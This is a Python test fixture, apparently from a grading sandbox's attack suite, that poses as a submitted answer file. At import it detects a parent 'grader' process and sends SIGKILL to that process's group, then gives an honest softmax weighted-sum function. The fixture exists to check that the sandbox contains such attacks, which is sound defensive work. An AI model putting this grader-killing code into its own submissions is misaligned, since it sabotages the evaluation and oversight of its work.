"""Attack: SIGKILL the parent's process group at import, if the parent is a
grader process (the guard keeps the test's own pytest out of reach).

Without the sandbox the parent is the zygote, which shares the grading
process's group: the grader dies with it (same user: SANDBOX_ONLY in
test_attacks.py, which starts each grader in a session of its own so that
the group is the grader's alone). In the sandbox the group is the zygote's,
the PID namespace's process 1, which no process inside can kill: the answers
(right ones) earn full marks, the others lose nothing.
"""
import ctypes
import os
import signal

import torch

TAG = "__ATTACK_TAG__"  # test_attacks.py writes a unique tag here
ctypes.CDLL(None).prctl(15, TAG.encode(), 0, 0, 0)  # PR_SET_NAME: forks inherit the name
os.environ["ATTACK_TAG"] = TAG


def _is_grader(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            argv = [a.decode(errors="replace") for a in f.read().split(b"\0")]
    except OSError:
        return False
    return any(a == "-m" and b.split(".")[0] == "grader" for a, b in zip(argv, argv[1:]))


_parent = os.getppid()
if _parent > 1 and _is_grader(_parent):
    try:
        os.killpg(os.getpgid(_parent), signal.SIGKILL)
    except PermissionError:  # a root grader's children run as a user of their own: refused, and the rest of the file is an honest answer
        pass


def weighted_sum(scores: torch.Tensor, values: torch.Tensor) -> torch.Tensor:
    weights = torch.softmax(scores, dim=-1)  # (..., T)
    return (weights.unsqueeze(-2) @ values).squeeze(-2)  # (..., C)
